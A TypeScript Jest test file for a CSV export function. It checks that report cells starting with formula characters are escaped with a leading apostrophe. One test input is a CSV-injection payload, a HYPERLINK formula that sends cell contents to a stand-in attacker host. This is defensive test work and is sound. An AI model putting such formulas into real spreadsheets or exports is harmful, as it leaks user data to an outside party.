import { renderCsv } from './report-output';
import type { ReportTable } from './report-table';

const table = (rows: ReportTable['rows']): ReportTable => ({
  id: 'panel-attendance',
  title: 'Panel attendance by agency',
  description: '',
  columns: ['Agency', 'Sittings'],
  labelColumns: 1,
  rows,
  notes: [],
});

describe('renderCsv', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`],
    ['+44 sum', "'+44 sum"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises text a spreadsheet would run as a formula: %j', (agency, field) => {
    expect(renderCsv(table([[agency, 3]]))).toBe(`Agency,Sittings\r\n${field},3\r\n`);
  });

  it('writes numbers, negative ones included, and plain text as they are', () => {
    expect(
      renderCsv(
        table([
          ['Dorset Police', -1],
          ['NHS, Dorset', 0],
        ]),
      ),
    ).toBe('Agency,Sittings\r\nDorset Police,-1\r\n"NHS, Dorset",0\r\n');
  });
});
